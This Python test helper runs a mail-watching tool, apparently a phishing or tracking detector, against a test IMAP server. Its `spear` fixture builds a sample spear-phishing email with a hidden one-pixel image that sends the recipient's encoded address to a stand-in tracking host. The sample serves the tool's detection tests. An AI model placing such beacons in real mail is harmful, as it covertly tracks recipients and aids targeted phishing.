"""Runs `tocsin watch` as a user does, and looks into mailboxes as a mail program would."""

from __future__ import annotations

import contextlib
import hashlib
import imaplib
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from tests.dovecot_server import HOST, PASSWORD, Server
from tests.e2e.running import environment
from tests.e2e.test_scan import check_schema, records

PATIENCE_S = 90.0
EVIL = "track.digest-review.test"


def spear(number: int, to: str = "ada@desk.test") -> bytes:
    """A personal mail with a hidden picture that carries the reader's address."""
    token = hashlib.sha256(str(number).encode()).hexdigest()[:24]
    return f"""\
From: "Nadia Verhoeven" <nadia.verhoeven@digest-review.test>
To: {to}
Subject: Draft {number} for your comment
Date: Mon, 23 Nov 2026 14:00:00 +0000
Message-ID: <{token}@digest-review.test>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<p>Dear Ada,</p><p>I would value your comments on the draft. Would you be willing to read it?</p>
<img src="http://{EVIL}/p.gif?e=YWRhQGRlc2sudGVzdA==&t={token}" width="1" height="1" style="display:none">
""".replace("\n", "\r\n").encode()


def plain(number: int, to: str = "ada@desk.test") -> bytes:
    """A mail that asks for nothing."""
    return f"From: Bo <bo@desk.test>\r\nTo: {to}\r\nSubject: Lunch {number}\r\n\r\nAt noon?\r\n".encode()


class Mailbox:
    """An account of its own on the shared server."""

    def __init__(self, server: Server, user: str) -> None:
        self.server = server
        self.user = user

    def url(self, folder: str = "INBOX", port: int = 0) -> str:
        scheme, port = ("imap", port) if port else ("imaps", self.server.imaps_port)
        return f"{scheme}://{self.user}@{HOST}:{port}/{folder}"

    def deliver(self, raw: bytes) -> None:
        self.server.deliver(self.user, raw)

    @contextlib.contextmanager
    def client(self, folder: str = "INBOX", *, readonly: bool = False) -> Iterator[imaplib.IMAP4]:
        client = imaplib.IMAP4(HOST, self.server.imap_port)
        try:
            client.login(self.user, PASSWORD)
            client.select(folder, readonly)
            yield client
        finally:
            client.logout()

    def append(self, raw: bytes, flags: str = "", date: str = "", folder: str = "INBOX") -> None:
        with self.client() as client:
            assert client.append(folder, flags, date, raw)[0] == "OK"

    def mails(self, folder: str = "INBOX") -> list[dict[str, Any]]:
        """UID, flags, INTERNALDATE and text of what lies in a folder, without changing it."""
        found = []
        with self.client(folder, readonly=True) as client:
            _, answers = client.uid("FETCH", "1:*", "(FLAGS INTERNALDATE BODY.PEEK[])")
            for answer in answers:
                if isinstance(answer, tuple):
                    head, raw = answer
                    found.append(
                        {
                            "uid": int(head.split(b"UID ")[1].split()[0]),
                            "flags": {flag.decode() for flag in imaplib.ParseFlags(head)} - {"\\Recent"},
                            "date": imaplib.Internaldate2tuple(head),
                            "raw": raw,
                        }
                    )
        return found

    def files(self) -> list[str]:
        """Names of the mails' files, which have the flags in them."""
        home = self.server.home(self.user)
        return sorted(str(path.relative_to(home)) for path in home.glob("**/*,S=*"))


class Watch:
    """A running `tocsin watch`; what it says is read while it runs."""

    def __init__(self, home: Path, server: Server, *arguments: str, **variables: str) -> None:
        self._process = subprocess.Popen(
            command(home, server, *arguments),
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env=settings(home, **variables),
            start_new_session=True,
        )
        self._out, self._err = bytearray(), bytearray()
        self._readers = [
            threading.Thread(target=self._read, args=pair, daemon=True)
            for pair in ((self._process.stdout, self._out), (self._process.stderr, self._err))
        ]
        for reader in self._readers:
            reader.start()

    @staticmethod
    def _read(stream: Any, into: bytearray) -> None:
        with stream:
            while piece := os.read(stream.fileno(), 65536):
                into += piece

    @property
    def said(self) -> str:
        return self._err.decode()

    def told(self) -> list[dict[str, Any]]:
        """The records so far; each keeps its schema."""
        whole = bytes(self._out[: self._out.rfind(b"\n") + 1])
        found = records(whole)
        for record in found:
            check_schema(record)
        return found

    def until(self, condition: Callable[[], object]) -> None:
        until_s = time.monotonic() + PATIENCE_S
        while not condition():
            assert time.monotonic() < until_s, f"did not happen; told {self.told()}, said {self.said}"
            assert self._process.poll() is None, f"ended with {self._process.returncode}: {self.said}"
            time.sleep(0.02)

    def until_following(self, folders: int = 1) -> None:
        self.until(lambda: self.said.count(": following ") >= folders)

    def kill(self) -> None:
        """As a failing machine would: all of it, at once."""
        os.killpg(self._process.pid, signal.SIGKILL)
        self._ended()

    def stop(self) -> int:
        """As a service manager would; returns the exit code."""
        if self._process.poll() is None:
            self._process.send_signal(signal.SIGTERM)
        return self._ended()

    def stop_by_itself(self) -> int:
        """The exit code of a run that ends when all is done."""
        return self._ended()

    def _ended(self) -> int:
        code = self._process.wait(PATIENCE_S)
        for reader in self._readers:
            reader.join(PATIENCE_S)
        assert "Traceback" not in self.said, self.said
        return code


def command(home: Path, server: Server, *arguments: str) -> list[str]:
    return [
        *(sys.executable, "-m", "tocsin", "watch", "--state", str(home / "state"), "--json"),
        *("--ca-file", str(server.ca_file), *arguments),
    ]


def settings(home: Path, **variables: str) -> dict[str, str]:
    """A threshold at which the practice mail alarms by itself; passwords in a file."""
    netrc = home / "netrc"
    if not netrc.exists():
        netrc.touch(0o600)
        users = ("ada@desk.test", "bo@desk.test", *variables.pop("users", "").split())
        netrc.write_text(
            "".join(f"machine {user}@{HOST} login {user} password {PASSWORD}\n" for user in users)
        )
    variables.pop("users", None)
    return {
        **environment(home),
        "TOCSIN_THRESHOLD": "0.02",
        "TOCSIN_NETRC": str(netrc),
        "TOCSIN_JOBS": "1",
        **variables,
    }


def once(
    home: Path, server: Server, *arguments: str, **variables: str
) -> tuple[int, list[dict[str, Any]], str]:
    """Exit code, records and messages of a run that ends by itself."""
    watch = Watch(home, server, "--once", *arguments, **variables)
    code = watch.stop_by_itself()
    return code, watch.told(), watch.said
